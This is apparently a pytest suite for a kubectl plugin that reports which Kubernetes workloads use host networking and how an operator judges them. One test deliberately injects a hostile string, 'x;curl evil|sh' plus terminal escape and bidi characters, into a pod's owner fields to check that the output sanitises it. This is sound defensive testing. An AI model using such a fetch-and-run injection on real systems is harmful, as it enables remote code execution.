"""`kubectl hostnetwork status` shows what the operator decides, and says what it could not look at."""

import itertools
import json
import signal
import subprocess
from typing import Any

import pytest
import yaml

from hostnetwork_operator.api import labels
from tests.cli.conftest import COMMAND, hostnetwork, result
from tests.controlplane import binary, cluster
from tests.e2e import agents
from tests.e2e.conftest import IMAGE, World

FORMS = ("table", "wide", "json", "yaml", "name")


def daemon_set(name: str, image: str, **spec: Any) -> dict[str, Any]:
    """Return a DaemonSet with the host network."""
    selector = {"app": name}
    template = {
        "metadata": {"labels": selector},
        "spec": {"hostNetwork": True, "containers": [{"name": "main", "image": image}], **spec},
    }
    return {
        "apiVersion": "apps/v1",
        "kind": "DaemonSet",
        "metadata": {"name": name},
        "spec": {"selector": {"matchLabels": selector}, "template": template},
    }


def pods_of(target: cluster.Cluster, namespace: str) -> list[dict[str, Any]]:
    return list(target.admin.items(f"/api/v1/namespaces/{namespace}/pods"))


def row(document: dict[str, Any], namespace: str, name: str) -> dict[str, Any]:
    (found,) = [w for w in document["workloads"] if (w["namespace"], w["name"]) == (namespace, name)]
    return dict(found)


@pytest.fixture(scope="module")
def shop(bare: cluster.Cluster) -> str:
    """A namespace of the cluster with nothing installed: kube-proxy as published, an impostor, a debug pod."""
    bare.admin.post("/api/v1/namespaces", {"metadata": {"name": "shop"}}).expect(201)
    for namespace, body in (
        (
            "kube-system",
            daemon_set("kube-proxy", "registry.k8s.io/kube-proxy:v1.37.2", serviceAccountName="kube-proxy"),
        ),
        ("shop", daemon_set("node-exporter", "registry.example.com/miner:1")),
    ):
        account = {"metadata": {"name": "kube-proxy"}}
        bare.admin.post(f"/api/v1/namespaces/{namespace}/serviceaccounts", account)
        bare.admin.post(f"/apis/apps/v1/namespaces/{namespace}/daemonsets", body).expect(201)
    debugger = {
        "metadata": {"name": "node-debugger-node-1-abcde"},
        "spec": {
            "hostNetwork": True, "hostPID": True, "hostIPC": True, "nodeName": "node-1",
            "containers": [{"name": "debugger", "image": "busybox"}],
        },
    }  # fmt: skip
    bare.wait("the account", lambda: bare.admin.get("/api/v1/namespaces/shop/serviceaccounts/default").status == 200)
    bare.admin.post("/api/v1/namespaces/shop/pods", debugger).expect(201)
    hidden = {**debugger["spec"], "hostNetwork": False, "hostIPC": False}
    bare.admin.post("/api/v1/namespaces/shop/pods", {"metadata": {"name": "pids"}, "spec": hidden}).expect(201)
    bare.wait("the pods", lambda: len(pods_of(bare, "shop")) >= 3 and len(pods_of(bare, "kube-system")) >= 1)
    return "shop"


def test_a_cluster_with_nothing_installed_is_classified(bare: cluster.Cluster, shop: str) -> None:
    """kube-proxy is certain, a DaemonSet with its neighbour's name is not, and a debug pod is recognised."""
    document = result(bare, "status")
    assert (document["installed"], document["notLookedAt"]) == (False, [])
    own = [w for w in document["workloads"] if w["namespace"] in {shop, "kube-system"}]  # other files use the cluster
    classes = {w["name"]: (w["class"]["type"], w["class"]["confidence"]) for w in own}
    assert classes == {
        "kube-proxy": ("Infrastructure", "certain"),
        "node-exporter": ("Infrastructure", "unknown"),
        "node-debugger-node-1-abcde": ("Diagnostic", "likely"),
    }
    assert {w["verdict"] for w in document["workloads"] if w["namespace"] == shop} == {"Uncovered"}
    shown = hostnetwork(bare, "status")
    assert shown.returncode == 0
    assert "hostnetwork-operator is not installed" in shown.stderr
    assert (
        shown.stdout.splitlines()[0].split() == "NAMESPACE WORKLOAD CLASS PODS VERDICT EXCEPTION OWNER EXPIRES".split()
    )


def test_all_shows_pods_without_the_host_network_too(bare: cluster.Cluster, shop: str) -> None:
    assert row(result(bare, "status", "--all", "-n", shop), shop, "pids")["hostNamespaces"] == ["PID"]
    assert "pids" not in hostnetwork(bare, "status", "-n", shop).stdout


@pytest.mark.parametrize("form", FORMS)
def test_every_form_has_the_same_rows_and_exit_statuses(bare: cluster.Cluster, shop: str, form: str) -> None:
    """One result is computed and then rendered. The exit status does not depend on the form."""
    document = result(bare, "status", "-n", shop)
    arguments = ("status", "-n", shop, "-o", form, "--no-headers")
    shown = hostnetwork(bare, *arguments)
    assert shown.returncode == 0
    match form:
        case "json":
            rows = len(json.loads(shown.stdout)["workloads"])
        case "yaml":
            rows = len(yaml.safe_load(shown.stdout)["workloads"])
        case _:
            rows = len(shown.stdout.splitlines())
    assert rows == len(document["workloads"]) == document["summary"]["workloads"] == 2
    assert hostnetwork(bare, *arguments, "--fail-on", "Uncovered").returncode == 3
    assert hostnetwork(bare, *arguments, "--fail-on", "Covered,Expired").returncode == 0


def test_what_may_not_be_read_is_said(bare: cluster.Cluster, shop: str) -> None:
    """Not looked at is not clean: status 1, each kind with its reason, and nothing that was not seen is called fine."""
    shown = hostnetwork(bare, "status", "--as", "nobody", "--fail-on", "Uncovered")
    assert shown.returncode == 1
    assert "not looked at: pods: " in shown.stderr
    assert "No pod with" not in shown.stderr
    document = result(bare, "status", "--as", "nobody", status=1)
    assert {each["what"] for each in document["notLookedAt"]} >= {
        "pods",
        "namespaces",
        "hostnetworkexceptions",
        "ledger",
    }
    tenant = bare.tenant(shop)
    pods = result(bare, "status", "-n", shop, status=1, user=tenant)
    assert "namespaces" in {each["what"] for each in pods["notLookedAt"]}


def test_a_namespace_that_does_not_exist_is_an_error(bare: cluster.Cluster) -> None:
    shown = hostnetwork(bare, "status", "-n", "nowhere")
    assert (shown.returncode, shown.stdout) == (1, "")
    assert shown.stderr == 'Error from server (NotFound): namespaces "nowhere" not found\n'


def test_a_server_that_does_not_answer_is_named(bare: cluster.Cluster) -> None:
    nowhere = bare.administrator_at("https://127.0.0.1:1")
    shown = hostnetwork(bare, "status", "--request-timeout", "2s", user=nowhere)
    assert (shown.returncode, shown.stdout) == (1, "")
    assert shown.stderr.startswith("error: the server https://127.0.0.1:1 does not answer (")
    assert shown.stderr.count("\n") == 1


def test_impersonation_is_that_of_kubectl(bare: cluster.Cluster, shop: str) -> None:
    """Several groups are several headers: one of them may be all that has the right."""
    arguments = ("status", "-n", shop, "--as", "somebody", "--as-group", "a", "--as-group", "system:masters")
    assert hostnetwork(bare, *arguments).returncode == 0


def test_the_command_and_the_operator_agree(unattended: World) -> None:
    """On one cluster, pod by pod: the verdict labels of the operator, and the worst verdict of each workload.

    The samples have every kind of workload. Some are covered, some have no exception, and the exception of one ends.
    The pods are older than the enforcement of their namespaces.
    """
    world = unattended
    world.operator.stop()
    samples = agents.read(world.time(3600))
    chosen = dict(itertools.islice(samples.items(), 12))
    namespaces = {}
    for number, (name, sample) in enumerate(chosen.items()):
        namespace = namespaces[name] = world.namespace(deny=False, old=True)
        if number % 3:
            spec = dict(sample.exception["spec"])
            body = {"apiVersion": labels.API_VERSION, "kind": "HostNetworkException", "metadata": {"name": name}}
            world.admin.post(world.exceptions(namespace), {**body, "spec": spec}).expect(201)
        documents = [{**d, "metadata": {**d["metadata"], "namespace": namespace}} for d in sample.living()]
        completed = world.cluster.kubectl("apply", "-f", "-", stdin=yaml.safe_dump_all(documents))
        assert completed.returncode == 0, completed.stderr
    expiring = world.namespace(deny=False, old=True)
    world.exception(expiring, seconds=4, onExpiry="Report").expect(201)
    world.pod(expiring).expect(201)
    world.operator.start()
    world.until("it has expired", lambda: world.verdict(expiring, "capture") == "Expired")

    def differing() -> list[str]:
        document = result(world.cluster, "status", "--all")
        shown = {(w["namespace"], w["name"]): w["verdicts"] for w in document["workloads"]}
        wrong = []
        for namespace in (*namespaces.values(), expiring):
            counted: dict[str, int] = {}
            for pod in pods_of(world.cluster, namespace):
                if any(pod["spec"].get(field) for field in ("hostNetwork", "hostPID", "hostIPC")):
                    verdict = pod["metadata"].get("labels", {}).get(labels.VERDICT, "Covered")
                    counted[verdict] = counted.get(verdict, 0) + 1
            total: dict[str, int] = {}
            for (where, _), verdicts in shown.items():
                for verdict, number in verdicts.items() if where == namespace else ():
                    total[verdict] = total.get(verdict, 0) + number
            if total != counted:
                wrong.append(f"{namespace}: operator {counted}, command {total}")
        return wrong

    world.until("the command and the operator agree", lambda: not differing(), deadline_seconds=60)
    document = result(world.cluster, "status", "--all")
    assert document["installed"]
    assert set(document["summary"]["pods"]) >= {"Covered", "Uncovered", "Expired"}
    assert row(document, expiring, "capture")["owner"] == "team-sre"


def test_who_may_not_read_the_ledger_is_told_that_approvals_are_not_known(world: World) -> None:
    """The pod is Covered, as the operator says. The reader cannot know that, and is told so: Unknown, and status 1."""
    namespace = world.namespace()
    world.granted_pod(namespace)
    groups = ["", labels.GROUP, "admissionregistration.k8s.io", "apps", "batch"]
    kinds = ["namespaces", "pods", "hostnetworkexceptions", "hostnetworkexceptionpolicies", "replicasets", "jobs"]
    kinds += ["validatingadmissionpolicies", "validatingadmissionpolicybindings"]
    rules = [{"apiGroups": groups, "resources": kinds, "verbs": ["get", "list"]}]
    rbac, meta = "/apis/rbac.authorization.k8s.io/v1", {"metadata": {"name": "no-ledger"}}
    reference = {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "no-ledger"}
    subject = {"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": "no-ledger"}
    world.admin.post(f"{rbac}/clusterroles", {**meta, "rules": rules}).expect(201)
    binding = {**meta, "roleRef": reference, "subjects": [subject]}
    world.admin.post(f"{rbac}/clusterrolebindings", binding).expect(201)
    user = world.cluster.user("no-ledger")
    world.cluster.wait_for_right(user, {"verb": "list", "resource": "pods"})
    document = result(world.cluster, "status", "-n", namespace, status=1, user=user)
    assert [each["what"] for each in document["notLookedAt"]] == ["ledger"]
    assert row(document, namespace, "capture")["verdict"] == "Unknown"
    assert row(result(world.cluster, "status", "-n", namespace), namespace, "capture")["verdict"] == "Covered"


def test_hostile_text_reaches_no_terminal(bare: cluster.Cluster, shop: str) -> None:
    """Whoever creates a pod writes the kind and the name of its owner. The command to paste names no such owner.

    The garbage collector deletes a pod whose owner is missing, but not if nobody serves the kind of the owner.
    """
    evil = "x;curl evil|sh\x1b[2J\u202e"
    owner = {"apiVersion": "example.com/v1", "kind": evil, "name": evil, "uid": "forged", "controller": True}
    pod = {"hostNetwork": True, "containers": [{"name": "main", "image": f"{IMAGE}-\u202e"}]}
    body = {"metadata": {"name": "hostile", "ownerReferences": [owner]}, "spec": pod}
    bare.admin.post(f"/api/v1/namespaces/{shop}/pods", body).expect(201)
    try:
        for form in FORMS:
            shown = hostnetwork(bare, "status", "-n", shop, "-o", form)
            text = shown.stdout + shown.stderr
            assert "hostile" in shown.stdout
            assert "evil" not in text
            assert text.replace("\n", "").isprintable()
    finally:
        bare.admin.delete(f"/api/v1/namespaces/{shop}/pods/hostile").expect(200)


def test_kubectl_finds_the_command_and_completes_it(bare: cluster.Cluster) -> None:
    """`kubectl hostnetwork`, and kubectl's own completion of its words."""
    environment = {"PATH": str(COMMAND.parent), "KUBECONFIG": str(bare.kubeconfig), "HOME": "/nonexistent"}
    kubectl = binary.find_or_build().command("kubectl")

    def run(*words: str) -> str:
        command = [*kubectl, *words]
        completed = subprocess.run(command, env=environment, capture_output=True, text=True, timeout=60, check=False)
        assert completed.returncode == 0, completed.stderr
        return completed.stdout

    assert run("hostnetwork", "status", "-n", "default", "--no-headers", "-o", "name") == ""
    assert run("__complete", "hostnetwork", "sta").splitlines()[0] == "status\tShow every workload with host networking"
    assert run("__complete", "hostnetwork", "status", "-n", "kube-s").splitlines()[0] == "kube-system"


def test_watch_shows_the_table_again_when_it_has_changed(bare: cluster.Cluster, shop: str) -> None:
    """A person ends it with Ctrl-C: status 130, and no traceback."""
    environment = {"PATH": "/usr/bin:/bin", "KUBECONFIG": str(bare.kubeconfig), "PYTHONUNBUFFERED": "1"}
    command = [COMMAND, "status", "-n", shop, "-w", "--no-headers"]
    with subprocess.Popen(
        command, env=environment, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    ) as process:
        assert process.stdout is not None
        assert shop in process.stdout.readline()
        pod = {"hostNetwork": True, "containers": [{"name": "main", "image": IMAGE}]}
        body = {"metadata": {"name": "watched"}, "spec": pod}
        bare.admin.post(f"/api/v1/namespaces/{shop}/pods", body).expect(201)
        assert any("pod/watched" in line for line in process.stdout)
        process.send_signal(signal.SIGINT)
        _, errors = process.communicate(timeout=30)
    bare.admin.delete(f"/api/v1/namespaces/{shop}/pods/watched").expect(200)
    assert process.returncode == 130
    assert "Traceback" not in errors
